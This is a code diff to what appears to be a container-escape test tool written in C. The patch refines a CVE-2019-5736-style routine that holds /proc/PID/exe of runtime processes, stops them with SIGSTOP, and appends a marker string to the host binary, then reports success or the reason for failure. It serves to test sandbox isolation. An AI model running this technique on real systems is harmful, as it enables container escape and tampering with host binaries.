@@ -9,7 +9,9 @@
  *                                read MARKER and create OUT; hold each one's
  *                                /proc/PID/exe and, once it has exited, try
  *                                to append to it (CVE-2019-5736), writing
- *                                EXE-OUT's name into the binary
+ *                                EXE-OUT's name into the binary; says
+ *                                "tried the binary of pid N: why not" for
+ *                                each one (busy ones are tried to the end)
  *
  *   escape ids                   print the real and effective uid (run it
  *                                setuid to see whether that took effect)
@@ -19,6 +21,7 @@
 #include <dirent.h>
 #include <errno.h>
 #include <fcntl.h>
+#include <signal.h>
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
@@ -71,6 +74,8 @@ static int try_process(pid_t pid, const char *marker, const char *out)
 {
 	char p[64];
 	snprintf(p, sizeof(p), "/proc/%d/exe", (int)pid);
+	/* stop it first, so that a runtime process cannot exec away meanwhile */
+	int stopped = kill(pid, SIGSTOP) == 0;
 	int e = open(p, O_PATH | O_CLOEXEC);
 	if (e >= 0 && n_held < MAX_EXE)
 		held[n_held++] = (struct held){ e, pid };
@@ -88,12 +93,15 @@ static int try_process(pid_t pid, const char *marker, const char *out)
 		if (fd >= 0)
 			close(fd);
 	}
+	if (stopped)
+		kill(pid, SIGCONT);
 	snprintf(p, sizeof(p), "/proc/%d", (int)pid);
 	return e >= 0 || access(p, F_OK) == 0;
 }
 
-/* Once the runtime process has gone, its binary is no longer busy. */
-static void try_overwrite(const char *exe_out)
+/* Once the runtime process has gone, its binary is no longer busy: until
+ * the last try, a busy one is tried again later. */
+static void try_overwrite(const char *exe_out, int last)
 {
 	for (int i = 0; i < n_held; i++) {
 		if (held[i].fd < 0)
@@ -101,15 +109,18 @@ static void try_overwrite(const char *exe_out)
 		char p[64];
 		snprintf(p, sizeof(p), "/proc/self/fd/%d", held[i].fd);
 		int w = open(p, O_WRONLY | O_APPEND | O_CLOEXEC);
-		if (w < 0 && errno == ETXTBSY)
+		if (w < 0 && errno == ETXTBSY && !last)
 			continue;
 		if (w >= 0) {
-			if (write(w, exe_out, strlen(exe_out)) > 0) {
+			if (write(w, exe_out, strlen(exe_out)) > 0)
 				printf("ESCAPED via /proc/PID/exe: appended to the binary of pid %d\n", (int)held[i].pid);
-				fflush(stdout);
-			}
+			else
+				printf("tried the binary of pid %d: write: %s\n", (int)held[i].pid, strerror(errno));
 			close(w);
+		} else {
+			printf("tried the binary of pid %d: open: %s\n", (int)held[i].pid, strerror(errno));
 		}
+		fflush(stdout);
 		close(held[i].fd);
 		held[i].fd = -1;
 	}
@@ -150,9 +161,9 @@ static int watch(int secs, const char *marker, const char *out, const char *exe_
 				next = (pid_t)pid + 1;
 		}
 		closedir(d);
-		try_overwrite(exe_out);
+		try_overwrite(exe_out, 0);
 	}
-	try_overwrite(exe_out);
+	try_overwrite(exe_out, 1);
 	printf("watched %d processes\n", n);
 	return 0;
 }
